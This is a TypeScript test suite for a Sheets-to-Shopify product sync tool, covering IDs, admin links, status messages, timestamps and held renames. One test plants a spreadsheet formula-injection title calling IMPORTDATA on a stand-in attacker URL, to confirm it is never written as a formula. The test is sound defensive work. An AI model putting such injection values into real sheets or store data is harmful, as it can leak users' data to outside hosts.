import type { RunSummary } from '../../../src/answers/answers';
import { csvOf } from '../../support/csv';
import { openWorkbench, type Workbench } from '../../support/workbench';

const HEADER = ['Handle', 'Title', 'Option1 Name', 'Option1 Value', 'SKU', 'Price', 'Image Src'];
const ROWS = [
  ['tee', 'Tee', 'Size', 'S', 'T-S', '10.00', 'https://a.example/tee.jpg'],
  ['tee', '', '', 'L', 'T-L', '12.00', ''],
  ['tee', '', '', '', '', '', 'https://a.example/back.jpg'],
  ['mug', 'Mug', '', '', 'MUG', '9.00', ''],
];
const sheetOf = (...changes: readonly (readonly [row: number, column: string, text: string])[]) => {
  const rows = ROWS.map((cells) => [...cells]);
  for (const [row, column, text] of changes) (rows[row - 2] as string[])[HEADER.indexOf(column)] = text;
  return { Products: csvOf([HEADER, ...rows]) };
};

const BLOCK = HEADER.length;

function blockOf({ runtime }: Workbench, tab = 'Products') {
  const sheet = runtime.state.workbook.sheets.find(({ name }) => name === tab);
  return (sheet?.rows.slice(1) ?? []).map((row) => row.slice(BLOCK, BLOCK + 4));
}

/** Text and link of the last column of the block, as Sheets would show them. */
function idsOf({ runtime }: Workbench) {
  const read = runtime.state.workbook.sheets.find(({ name }) => name === 'Products');
  const runs = read?.layers.richText?.[String(BLOCK + 4)] ?? [];
  return JSON.stringify(runs);
}

describe('the Shopify ID of a row', () => {
  test('is the number of its variant, or of its product where the row is none, and leads to it in admin', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const [tee, mug] = bench.store.dump().products;
    const number = (id: string | undefined) => id?.split('/').at(-1);
    const ids = [tee?.variants[0]?.id, tee?.variants[1]?.id, tee?.id, mug?.variants[0]?.id].map(number);
    expect(blockOf(bench).map((cells) => cells[3])).toEqual(ids);
    const shop = bench.store.shop.replace('.myshopify.com', '');
    for (const path of [`${number(tee?.id)}/variants/${ids[0]}`, `${number(mug?.id)}/variants/${ids[3]}`]) {
      expect(idsOf(bench)).toContain(`https://admin.shopify.com/store/${shop}/products/${path}`);
    }
  });

  test('is there as well for a row that was up to date from the first', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const before = blockOf(bench).map((cells) => cells[3]);
    const other = openWorkbench({ saved: bench.save() });
    other.runtime.state.workbook.sheets = [];
    other.sync(sheetOf());
    expect(blockOf(other).map(([status]) => status)).toEqual(Array(4).fill('Up to date'));
    expect(blockOf(other).map((cells) => cells[3])).toEqual(before);
  });

  test('stays what it was while only a field of the product changes', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const before = blockOf(bench).map((cells) => cells[3]);
    bench.sync(sheetOf([2, 'Title', 'T-shirt']));
    expect(blockOf(bench).map((cells) => cells[3])).toEqual(before);
  });

  test('still tells a rename from a new item', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const renamed = sheetOf([5, 'Handle', 'cup'], [3, 'Option1 Value', 'XL']);
    bench.sync(renamed, '--hold');
    const [, large, , mug] = blockOf(bench);
    expect([large?.[0], mug?.[0]]).toEqual(['Held', 'Changed in both']);
    expect(large?.[1]).toMatch(/^Size L → XL is held: rename the option value in Shopify\?/);
    expect(mug?.[1]).toMatch(/^This row was “mug” at the last sync/);
    bench.sync(renamed, '--hold');
    expect(bench.store.dump().products).toHaveLength(2);
    expect(bench.store.dump().products[0]?.variants).toHaveLength(2);
  });

  test('stays where its option value is renamed in Shopify, as a person has confirmed', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const before = blockOf(bench).map((cells) => cells[3]);
    bench.sync(sheetOf([3, 'Option1 Value', 'XL']), '--confirm-held');
    expect(blockOf(bench)[1]?.slice(0, 2)).toEqual(['Updated', 'Size L → XL.']);
    expect(blockOf(bench).map((cells) => cells[3])).toEqual(before);
    expect(bench.store.dump().products[0]?.variants.map(({ options }) => Object.values(options))).toEqual([
      ['S'],
      ['XL'],
    ]);
  });
});

describe('what is written beside the rows', () => {
  test('is nothing where nothing changed', () => {
    const written: string[] = [];
    const bench = openWorkbench({
      gate: ({ service, method, args }) => {
        if (service === 'Range' && /^set/.test(method)) written.push(JSON.stringify(args));
      },
    });
    bench.sync(sheetOf());
    expect(written.some((cells) => cells.includes('Created'))).toBe(true);
    const [before] = [blockOf(bench), written.splice(0)];
    bench.clock.advance(3_600_000);
    bench.call('startSync');
    expect(written.filter((cells) => cells.includes('No change to send')).length).toBeGreaterThan(0);
    written.splice(0);
    bench.clock.advance(3_600_000);
    bench.call('startSync');
    expect(written.filter((cells) => /Up to date|No change|Created/.test(cells))).toEqual([]);
    expect(blockOf(bench).map((cells) => cells[2])).toEqual(before.map((cells) => cells[2]));
  });

  test('has the time of the last change in Shopify, which looking again does not move', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const created = blockOf(bench).map((cells) => cells[2]);
    bench.clock.advance(3_600_000);
    bench.paste(sheetOf([5, 'Price', '9.50']));
    bench.call('startSync');
    const updated = blockOf(bench).map((cells) => cells[2]);
    expect(updated.slice(0, 3)).toEqual(created.slice(0, 3));
    expect(Number(updated[3])).toBeGreaterThan(Number(created[3]));
    bench.clock.advance(3_600_000);
    bench.call('startSync');
    expect(blockOf(bench).map((cells) => cells[2])).toEqual(updated);
  });

  test('follows the block wherever the user moves it, and leaves the old place alone', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf());
    const sheet = bench.runtime.state.workbook.sheets.find(({ name }) => name === 'Products');
    for (const row of sheet?.rows ?? []) row.unshift(...row.splice(BLOCK, 4));
    bench.call('startSync');
    const cells = sheet?.rows.map((row) => row.slice(0, 5)) ?? [];
    expect(cells[0]).toEqual(['Sync status', 'Sync message', 'Synced at', 'Shopify ID', 'Handle']);
    expect(cells[4]?.[0]).toBe('No change to send');
    expect(sheet?.rows.every((row) => row.length <= BLOCK + 4)).toBe(true);
  });

  test('never is a formula, whatever stands in Shopify', () => {
    const bench = openWorkbench();
    bench.sync(sheetOf([5, 'Title', 'Mug']));
    const [, mug] = bench.store.dump().products;
    bench.store.execute({
      query:
        'mutation ($product: ProductUpdateInput!) { productUpdate(product: $product) { userErrors { message } } }',
      variables: { product: { id: mug?.id, title: '=IMPORTDATA("https://evil.example")' } },
    });
    bench.paste(sheetOf([5, 'Title', '=1+1']), '--hold');
    const summary = bench.call<RunSummary>('startSync');
    expect(summary).toMatchObject({ ok: true, value: { totals: { conflict: 1 } } });
    expect(blockOf(bench)[3]?.[1]).toContain('IMPORTDATA');
    const formulas = bench.runtime.state.workbook.sheets.map(({ layers }) => layers.formula ?? {});
    expect(JSON.stringify(formulas)).not.toContain('IMPORTDATA');
  });
});

test('the time is that of the last change in Shopify, also beside a row of which something is held', () => {
  const bench = openWorkbench();
  bench.sync(sheetOf());
  const [created] = blockOf(bench).map((cells) => Number(cells[2]));
  bench.clock.advance(3_600_000);
  bench.sync(sheetOf([2, 'Title', 'Shirt'], [2, 'Price', '1.00']), '--hold');
  const [[status, , changed] = []] = blockOf(bench);
  expect(status).toBe('Held');
  expect(Number(changed)).toBeGreaterThan(created as number);
});
